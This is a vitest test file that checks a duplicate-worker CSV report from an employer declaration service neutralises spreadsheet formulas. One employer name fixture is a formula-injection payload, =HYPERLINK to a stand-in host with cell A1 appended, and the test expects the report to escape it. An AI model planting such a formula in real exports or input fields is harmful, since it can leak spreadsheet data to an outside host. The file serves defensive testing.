import { afterAll, beforeAll, expect, test } from 'vitest';
import { startApp, type TestApp } from '#test/setup/app.ts';
import { recordEmployer } from '#test/setup/employers.ts';

let service: TestApp;
beforeAll(async () => {
  service = await startApp('2026-11-20T03:00:00Z');
});
afterAll(() => service.close());

const NAME = `=HYPERLINK("http://contoh.example/?"&A1,"klik")`;

test('a cell of several texts is no formula, either: what one employer is called stands in the row of another', async () => {
  for (const legalName of ['PT Tenang', NAME]) {
    const { id } = await recordEmployer(service, { legalName });
    const worker = {
      nik: '3401015501900001',
      name: 'Wulandari',
      birthDate: '1990-01-15',
      wage: 3_000_000,
      programmes: ['JKK', 'JKM', 'JHT'],
    };
    const body = { period: '2026-09', workers: [worker] };
    const declared = await service.send({ url: `/v1/employers/${id}/declarations`, body });
    expect(declared.statusCode, declared.body).toBe(201);
  }
  const url = '/v1/reports/cross-checks/duplicate-workers?period=2026-09';
  const csv = await service.send({ url, headers: { accept: 'text/csv' } });
  const shown = NAME.replaceAll('"', '""');
  expect(csv.body.split(`"'${shown}"`)).toHaveLength(3);
  expect(csv.body.split(shown)).toHaveLength(3);
});
